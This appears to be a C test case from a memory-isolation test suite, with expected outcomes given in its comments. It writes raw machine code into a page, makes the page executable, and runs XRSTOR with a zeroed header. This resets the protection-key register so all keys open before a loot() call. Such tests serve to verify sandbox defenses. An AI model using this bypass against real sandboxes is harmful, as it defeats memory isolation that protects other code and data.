/* XRSTOR with the key register's bit in its mask, in memory that is made executable. */
/* none: succeeded */
/* pkey: SIGSEGV */
/* process: SIGSEGV */
#include "code.h"

static char area[8192] __attribute__((aligned(64)));
/* mov $0x200,%eax; xor %edx,%edx; xrstor64 (%rdi); ret */
static const unsigned char RESTORE[] = {0xb8, 0, 2, 0, 0, 0x31, 0xd2, 0x48, 0x0f, 0xae, 0x2f, 0xc3};

static int attack(void)
{
	unsigned char *p = memory(PAGE, PROT_READ | PROT_WRITE);
	memcpy(p, RESTORE, sizeof RESTORE);
	if (mprotect(p, PAGE, PROT_READ | PROT_EXEC))
		return errno;
	/* A header of zeroes: every component goes to its initial state, in which all keys are open. */
	((void (*)(void *))p)(area);
	return loot();
}
